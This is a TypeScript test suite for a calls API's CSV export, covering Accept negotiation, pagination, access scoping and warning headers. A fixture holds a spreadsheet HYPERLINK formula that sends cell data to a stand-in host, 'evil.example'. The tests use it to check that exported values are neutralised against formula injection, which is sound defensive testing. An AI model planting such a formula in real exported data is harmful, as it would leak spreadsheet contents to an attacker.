import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { adminToken } from '../support/api.js'
import { startCallsApi } from '../support/calls-api.js'

const call = (id: string, agent: string, more: object = {}) => ({
  session_id: id,
  agent_id: agent.toLowerCase(),
  agent_name: agent,
  created_dt: '2026-03-01T10:00:00.000Z',
  ...more,
})

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Refund")'
const calls = [
  call('a', 'Ana', { score: 4, title: FORMULA }),
  call('-2+3', '@Ben', {
    score: 2.5,
    title: 'Card, lost\r\n"again"',
    outcome_lift: { lift: -0.25, lift_band: 'negative' },
  }),
]

let api: Awaited<ReturnType<typeof startCallsApi>>
let key: string
let ben: string
let admin: string
beforeAll(async () => {
  api = await startCallsApi()
  key = await api.mint()
  admin = await adminToken()
  ben = await api.mint({ allowed_agents: ['@Ben'], roles: [] })
  await api.call('POST', '/api/v1/interactions', { as: key, body: calls })
})
afterAll(() => api.close())

const csv = async (path: string, as = key, accept = 'text/csv') => api.call('GET', path, { as, headers: { accept } })
const records = (text: string) => parse<Record<string, string>>(text, { columns: true, record_delimiter: '\r\n' })

describe('a table as CSV', () => {
  test('has a line a call, with formulas made harmless and numbers left alone', async () => {
    const { status, headers, text } = await csv('/api/v1/calls?sort=score_desc')
    expect(status).toBe(200)
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present')
    expect(headers.get('vary')).toContain('accept')
    expect(headers.get('x-total-count')).toBe('2')
    expect(headers.get('x-warnings')).toBeNull()
    expect(text.split('\r\n')[0]).toBe(
      'session_id,agent_name,date,duration_s,score,lift,lift_band,signal_count,summary,why.cap,why.reason,why.dimension,why.value,doubts',
    )
    expect(records(text)).toMatchObject([
      { session_id: 'a', score: '4', lift: '', summary: `'${FORMULA}` },
      { session_id: "'-2+3", agent_name: "'@Ben", lift: '-0.25', summary: 'Card, lost\r\n"again"' },
    ])
  })

  test('is narrowed as JSON is, and says in headers what has no place in it', async () => {
    const own = await csv('/api/v1/interactions', ben)
    expect(records(own.text).map(one => one['session_id'])).toEqual(["'-2+3"])
    const first = await csv('/api/v1/interactions?limit=1')
    const cursor = first.headers.get('x-next-cursor') ?? ''
    const next = await csv(`/api/v1/interactions?limit=1&cursor=${encodeURIComponent(cursor)}`)
    expect(next.headers.get('x-next-cursor')).toBeNull()
    expect([first, next].flatMap(({ text }) => records(text).map(one => one['session_id']))).toEqual(
      expect.arrayContaining(["'-2+3", 'a']),
    )
  })

  test('is given of every list, also of one without entries', async () => {
    for (const path of [
      'agents',
      'agents/performance',
      'signals',
      'guidance',
      'tasks',
      'activity?query_type=page_views',
    ]) {
      expect(await csv(`/api/v1/${path}`)).toMatchObject({
        status: 200,
        text: expect.stringMatching(/^\w+[,\r]/),
      })
    }
    for (const path of ['/api/v1/webhooks', '/api/v1/alerts', '/projects/p1/mcp-keys']) {
      expect(await csv(path, admin)).toMatchObject({ status: 200 })
    }
    const keys = await csv('/projects/p1/mcp-keys', admin)
    expect(records(keys.text)[0]).toMatchObject({ active: 'true', roles: '["Admin"]' })
    expect(keys.text).not.toContain('key_hash')
    expect((await csv('/api/v1/changes?period=2020-01')).text).toMatch(/^category,key,/)
  })

  test('of a pipeline has the columns that come up, names made harmless too', async () => {
    const ask = (body: object) => api.call('POST', '/api/v1/query', { as: key, body, headers: { accept: 'text/csv' } })
    const pipeline = [
      { $sort: { session_id: -1 } },
      { $project: { _id: 0, made: { $arrayToObject: [[{ k: '$title', v: '$score' }]] }, outcome_lift: 1 } },
    ]
    const { text, headers } = await ask({ pipeline, limit: 1 })
    expect(headers.get('x-truncated')).toBe('true')
    expect(parse(text, { record_delimiter: '\r\n' })).toEqual([[`made.${FORMULA}`], ['4']])
    const bare = await ask({ pipeline: [{ $replaceRoot: { newRoot: { $arrayToObject: [[{ k: '$title', v: 1 }]] } } }] })
    expect(bare.text).toContain(`"'${FORMULA.replaceAll('"', '""')}"`)
    expect(await ask({ pipeline, explain: true })).toMatchObject({ status: 406, json: { code: 'not_acceptable' } })
  })

  test('of a pipeline that is warned of has the warnings in a header, as JSON in ASCII, as many as there is room for', async () => {
    const warnings = async (...names: string[]) => {
      const pipeline = [{ $match: Object.fromEntries(names.map(name => [name, 1])) }, { $count: 'calls' }]
      const body = { pipeline }
      const answer = await api.call('POST', '/api/v1/query', { as: key, body, headers: { accept: 'text/csv' } })
      const header = answer.headers.get('x-warnings') ?? ''
      const whole = (await api.call('POST', '/api/v1/query', { as: key, body })).json.warnings as string[]
      return { header, said: JSON.parse(header) as string[], whole }
    }
    const one = await warnings('größe')
    expect(one.header).toBe(
      String.raw`["pipeline[0].$match.gr\u00f6\u00dfe: there is no field \"gr\u00f6\u00dfe\" at this stage; did you mean \"session_metadata.gr\u00f6\u00dfe\"?"]`,
    )
    expect(one.said).toEqual(one.whole)
    const many = await warnings(...['ä', 'ö', 'ü'].map(letter => letter.repeat(60)))
    expect(many.header.length).toBeLessThan(2_048)
    expect(many.said.length).toBeGreaterThan(1)
    expect(many.said).toEqual([
      ...many.whole.slice(0, many.said.length - 1),
      `${many.whole.length - many.said.length + 1} more in application/json`,
    ])
  })
})

describe('Accept', () => {
  test.each([
    [undefined, 'json'],
    ['', 'json'],
    ['*/*', 'json'],
    ['text/*', 'csv'],
    ['text/csv;q=0.5, application/json;q=0.4', 'csv'],
    ['text/csv;q=0.4, application/json;q=0.5', 'json'],
    ['text/csv;q=0, */*;q=0.1', 'json'],
    ['application/json;q=0, */*', 'csv'],
    ['APPLICATION/JSON; charset=UTF-8', 'json'],
    ['text/html, application/xhtml+xml, */*;q=0.8', 'json'],
    ['text/csv, */*', 'csv'],
    ['text/csv; header=present', 'csv'],
  ])('%s is answered with %s', async (accept, type) => {
    const headers = { accept: accept ?? '' }
    const response = accept === undefined ? await api.call('GET', '/api/v1/agents', { as: key }) : undefined
    const answer = response ?? (await api.call('GET', '/api/v1/agents', { as: key, headers }))
    expect(answer.status).toBe(200)
    expect(answer.headers.get('content-type')).toContain(type)
  })

  test.each(['text/csv;q=0', 'application/xml', 'garbage', ',;,;q', 'application/json;q=0'])(
    '%s is refused where nothing of it is given',
    async accept => {
      const { status, json } = await csv('/api/v1/summary', key, accept)
      expect([status, json.code]).toEqual([406, 'not_acceptable'])
    },
  )

  test('a route without a table says so, whether or not what it names is there, and before anything is done', async () => {
    const error =
      'This is given as "application/json", none of which Accept takes; only what is a table is given as text/csv'
    for (const path of [
      '/api/v1/interactions/a',
      '/api/v1/interactions/nowhere',
      '/api/v1/calls/a',
      '/api/v1/summary',
    ]) {
      expect(await csv(path, ben)).toMatchObject({ status: 406, json: { error } })
    }
    const made = { name: 'x', condition: {} }
    expect(
      await api.call('POST', '/api/v1/alerts', { as: admin, body: made, headers: { accept: 'text/csv' } }),
    ).toMatchObject({ status: 406 })
    const body = [call('new', 'Ana')]
    const sent = await api.call('POST', '/api/v1/interactions', { as: key, body, headers: { accept: 'text/csv' } })
    expect(sent.status).toBe(406)
    expect((await api.call('GET', '/api/v1/interactions/new', { as: key })).status).toBe(404)
    expect((await csv('/api/v1/export', admin)).status).toBe(406)
    expect((await csv('/health', '')).status).toBe(200)
  })
})
